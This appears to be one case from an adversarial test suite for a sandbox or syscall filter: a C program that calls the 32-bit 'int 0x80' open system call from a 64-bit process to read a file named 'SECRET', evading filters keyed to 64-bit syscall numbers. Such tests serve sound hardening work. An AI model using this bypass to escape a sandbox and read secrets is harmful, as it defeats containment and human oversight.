// technique: the i386 ABI (int 0x80) from a 64-bit process: open(2) of the key under another syscall numbering
// build: static
#include "adv.h"
int main(void) {
	static char path[1024]; /* static: below 4 GiB in a non-PIE static binary */
	strcpy(path, adv("SECRET"));
	fflush(stdout);
	long fd;
	/* i386 open = 5 */
	__asm__ volatile("int $0x80" : "=a"(fd) : "a"(5), "b"(path), "c"(0) : "memory");
	printf("int80 open: %ld\n", fd);
	if (fd >= 0) dump("int80", (int)fd);
	return 0;
}
